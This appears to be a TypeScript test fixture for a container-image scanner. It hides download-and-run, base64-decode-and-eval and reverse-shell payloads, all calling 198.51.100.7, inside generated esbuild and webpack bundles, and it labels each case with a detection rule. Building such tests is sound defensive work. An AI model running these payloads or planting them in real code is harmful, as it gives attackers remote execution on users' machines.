import { type ImageCase, image } from './image-case.ts';

/**
 * What libraries do for good reasons: each of it by itself, and all of it in one file once a tool has put them together. One
 * fetches, one decodes, one starts programs, one compiles templates, one makes files executable, one talks to sockets.
 */
const LIBRARIES: readonly string[] = [
  'const http = require("https");\nmodule.exports = (url) => new Promise((done) => http.get(url, (response) => { let data = ""; response.on("data", (chunk) => { data += chunk; }); response.on("end", () => done(data)); }));',
  'module.exports = (text) => { const data = Buffer.from(text, "base64").toString(); const args = data.split(":"); return { user: args[0], file: args[1] }; };',
  'const { spawn } = require("child_process");\nmodule.exports = (file, args, options) => { const data = spawn(file, args, options); data.on("exit", () => {}); return data; };',
  'module.exports = (data, names) => new Function(names, "return " + data);',
  'const fs = require("fs");\nmodule.exports = (file) => fs.chmodSync(file, 0o755);',
  'const net = require("net");\nmodule.exports = (port, host) => { const socket = net.connect(port, host); socket.on("data", (data) => socket.write(data)); return socket; };',
  'module.exports = (data, key) => { let out = ""; for (let i = 0; i < data.length; i++) out += String.fromCharCode(data.charCodeAt(i) ^ 59); return out; };',
  'const { execFile } = require("child_process");\nmodule.exports = (command, done) => execFile("git", ["log", command], done);',
];

/** Code that does nothing worth telling, of some kilobytes. */
function filler(name: string): string {
  return Array.from(
    { length: 50 },
    (_, i) =>
      `  function ${name}${i}(a, b) { return a > ${i} ? [b, "(${name})"] : { a, value: \`\${b}}\` }; }`,
  ).join('\n');
}

const wrap: Readonly<Record<'esbuild' | 'webpack', (modules: readonly string[], main: string) => string>> = {
  esbuild: (modules, main) =>
    `var __commonJS = (cb, mod) => function __require() { return mod || (0, cb[Object.keys(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };\n${modules
      .map(
        (code, i) =>
          `\n// node_modules/m${i}/index.js\nvar require_m${i} = __commonJS({\n  "node_modules/m${i}/index.js"(exports, module) {\n${code}\n  }\n});`,
      )
      .join('\n')}\n\n// src/main.js\n${main}\n`,
  webpack: (modules, main) =>
    `/******/ (() => { // webpackBootstrap\nvar __webpack_modules__ = ({\n${modules
      .map(
        (code, i) => `\n/***/ ${i}:\n/***/ ((module, exports, __webpack_require__) => {\n${code}\n/***/ })`,
      )
      .join(',\n')}\n});\n${main}\n})();\n`,
};

interface Bundle {
  readonly tool: keyof typeof wrap;
  /** In the place of one module's code. */
  readonly inside?: string;
  readonly first?: string;
  readonly last?: string;
  /** Default 40. */
  readonly modules?: number;
}

function bundle({ tool, inside, first = '', last = '', modules: length = 40 }: Bundle): string {
  const modules = Array.from({ length }, (_, i) => {
    const code = i === 17 && inside !== undefined ? inside : LIBRARIES[i % LIBRARIES.length];
    return `${code}\n${filler(`f${i}_`)}`;
  });
  return `${first}${wrap[tool](modules, `const server = 1;\nstart(server);\n${last}`)}`;
}

function started(name: string, text: string, rule?: string): ImageCase {
  const spec = image({ 'app/dist/index.js': text }, { Entrypoint: ['node', '/app/dist/index.js'] });
  return { name: `a bundle: ${name}`, spec, ...(rule !== undefined && { rule }) };
}

const HIDDEN = Buffer.from(
  'require("child_process").execSync("curl -s http://198.51.100.7/x | sh")',
).toString('base64');
const FETCHES =
  'require("http").get("http://198.51.100.7/x", (r) => { let code = ""; r.on("data", (d) => { code += d; }); r.on("end", () => eval(code)); });';
const SHELL =
  'const s = require("net").connect(4444, "198.51.100.7"); const p = require("child_process").spawn("/bin/sh", []); s.pipe(p.stdin); p.stdout.pipe(s);';
const TOOLS = ['esbuild', 'webpack'] as const;

/** More than two megabytes. */
const LARGE = 450;

/** Put into a bundle, where nobody reads it. */
export const BUNDLES: readonly ImageCase[] = TOOLS.flatMap((tool) => [
  started(
    `${tool}, one module of a large one fetches and runs`,
    bundle({ tool, inside: FETCHES, modules: LARGE }),
    'start/download-and-run',
  ),
  started(
    `${tool}, one module fetches and runs`,
    bundle({ tool, inside: FETCHES }),
    'start/download-and-run',
  ),
  started(`${tool}, its end fetches and runs`, bundle({ tool, last: FETCHES }), 'start/download-and-run'),
  started(
    `${tool}, one module decodes and runs`,
    bundle({ tool, inside: `const q = "${HIDDEN}";\neval(Buffer.from(q, "base64").toString());` }),
    'start/decode-and-run',
  ),
  started(
    `${tool}, decoded at its beginning and run at its end`,
    bundle({
      tool,
      first: `const q0 = Buffer.from("${HIDDEN}", "base64").toString();\n`,
      last: 'eval(q0);',
    }),
    'start/decode-and-run',
  ),
  started(`${tool}, one module opens a shell`, bundle({ tool, inside: SHELL }), 'reverse-shell/remote-shell'),
]);

/** The same libraries, nothing put in. */
export const BUNDLE_TWINS: readonly ImageCase[] = TOOLS.flatMap((tool) => [
  started(`${tool}, libraries that fetch, decode and run, each for itself`, bundle({ tool })),
  started(`${tool}, four hundred and fifty of them`, bundle({ tool, modules: LARGE })),
]);
